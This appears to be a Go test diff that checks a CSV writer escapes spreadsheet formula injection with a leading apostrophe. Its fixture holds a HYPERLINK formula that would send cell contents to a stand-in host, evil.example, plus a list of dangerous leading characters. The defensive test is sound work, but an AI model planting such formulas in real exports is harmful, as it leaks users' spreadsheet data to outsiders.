@@ -2,6 +2,7 @@ package csvplan_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
@@ -177,4 +178,45 @@ func FuzzRead(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestFormulasAreDefused: a cell a spreadsheet would run (a title
+// "=HYPERLINK(...)", a text starting "+45", notes starting "-") is written
+// with a leading apostrophe, so Excel and LibreOffice show it as text, and
+// reading our own file gives the post back unchanged. A file with another
+// header keeps its apostrophes: they are the writer's.
+func TestFormulasAreDefused(t *testing.T) {
+	p := &calendar.Post{ID: "01FORMULA", Title: `=HYPERLINK("https://evil.example/?q="&A1,"click")`, Body: "+45 12 34 56 78 ring os",
+		Notes: "-- intern note", Link: "https://example.com/a", Channels: []string{"Facebook"}, Tags: []string{"@home"},
+		Start: calendar.Wall(2026, 12, 1, 9, 0, 0), TimeZone: "Europe/Copenhagen", Status: calendar.StatusDraft, Media: []string{"@assets/launch.png"}}
+	var buf bytes.Buffer
+	if err := csvplan.Write(&buf, []*calendar.Post{p}, nil); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("column %s starts with %q: a spreadsheet would run it", rows[0][i], cell[:1])
+		}
+	}
+	res, err := csvplan.Read(bytes.NewReader(buf.Bytes()), csvplan.Options{Zone: "Europe/Copenhagen",
+		Campaigns: []calendar.Campaign{{Tag: "@home", Name: "Home", Colour: "#123456"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := res.Rows[0].Post
+	if !res.Rows[0].OK() || got.Title != p.Title || got.Body != p.Body || got.Notes != p.Notes || got.Tags[0] != "@home" || got.Media[0] != "@assets/launch.png" {
+		t.Fatalf("read back: %+v (%v)", got, res.Rows[0].Errors)
+	}
+	foreign := "Title,Text\n'=not ours,'+45 kept\n"
+	res, err = csvplan.Read(strings.NewReader(foreign), csvplan.Options{Zone: "Europe/Copenhagen"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := res.Rows[0].Post; got.Title != "'=not ours" || got.Body != "'+45 kept" {
+		t.Errorf("another program's file lost its apostrophes: %q %q", got.Title, got.Body)
+	}
 }
